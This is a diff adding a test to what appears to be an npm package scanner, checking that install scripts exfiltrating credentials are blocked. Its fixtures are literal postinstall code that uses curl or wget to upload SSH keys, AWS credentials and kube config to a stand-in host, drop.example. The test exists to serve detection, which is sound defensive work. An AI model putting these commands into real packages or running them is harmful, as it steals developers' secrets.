@@ -273,6 +273,43 @@ test('curl uploads, honest twins: a release upload of a build artefact, a public
   );
 });
 
+test("curl / wget uploads from an npm install script: a credential store's content sent (secret_send); twins not", async () => {
+  const hook = { postinstall: 'node install.js' };
+  const cases: [string, string][] = [
+    ['js-up-lit', "require('child_process').execSync('curl -s -T ~/.ssh/id_rsa https://drop.example/u');\n"],
+    [
+      'js-up-wget',
+      "require('child_process').exec('wget -q --post-file=$HOME/.aws/credentials https://drop.example/u');\n",
+    ],
+    [
+      'js-up-argv',
+      "const p = require('path').join(process.env.HOME, '.kube', 'config');\nrequire('child_process').execFileSync('curl', ['-F', 'k=@' + p, 'https://drop.example/u']);\n",
+    ],
+    [
+      'js-up-tpl',
+      "const os = require('os'), path = require('path');\nconst k = path.join(os.homedir(), '.ssh', 'id_rsa');\nrequire('child_process').execSync(`curl -s -F \"f=@${k}\" https://drop.example/u`);\n",
+    ],
+  ];
+  for (const [name, src] of cases) {
+    const r = await npmRate(name, { 'install.js': src, 'index.js': 'module.exports = 1;\n' }, hook);
+    assert.is(r.level, 'BLOCKED', `${name}: ${r.rules.join(', ')}`);
+    assert.ok(r.rules.includes('secret_send:CRITICAL'), `${name}: ${r.rules.join(', ')}`);
+  }
+  for (const [name, src] of [
+    [
+      'tw-js-up-dist',
+      "require('child_process').execFileSync('curl', ['-F', 'file=@dist/app.tgz', 'https://upload.example/api']);\n",
+    ],
+    [
+      'tw-js-up-pub',
+      "require('child_process').execSync('curl -s -F key=@~/.ssh/id_ed25519.pub https://deploy.example/keys');\n",
+    ],
+  ]) {
+    const r = await npmRate(name!, { 'install.js': src!, 'index.js': 'module.exports = 1;\n' }, hook);
+    assert.ok(r.level !== 'BLOCKED' && r.level !== 'CAUTION', `${name}: ${r.level} (${r.rules.join(', ')})`);
+  }
+});
+
 // ---- urlretrieve, then the file run or imported ------------------------------------------------------------
 
 test('urlretrieve then run, opened or imported, whatever the spelling of the path, is BLOCKED', async () => {
